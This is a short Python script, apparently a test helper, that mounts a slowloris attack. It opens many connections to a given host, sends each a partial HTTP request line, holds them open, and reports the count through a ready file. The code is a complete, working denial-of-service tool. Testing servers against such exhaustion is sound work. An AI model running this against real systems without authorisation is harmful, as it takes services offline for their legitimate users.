#!/usr/bin/env python3
"""Opens N connections to HOST:PORT that send half a request line and
then nothing, holds them for SECONDS, and prints how many it opened.

    slowloris.py HOST PORT N SECONDS READY_FILE
"""
import socket
import sys
import time

host, port, n, secs, ready = (sys.argv[1], int(sys.argv[2]), int(sys.argv[3]),
                              float(sys.argv[4]), sys.argv[5])
socks = []
for i in range(n):
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(b"GET /check?host=")
        socks.append(s)
    except OSError:
        break
with open(ready, "w") as f:
    f.write("%d\n" % len(socks))
time.sleep(secs)
print(len(socks))
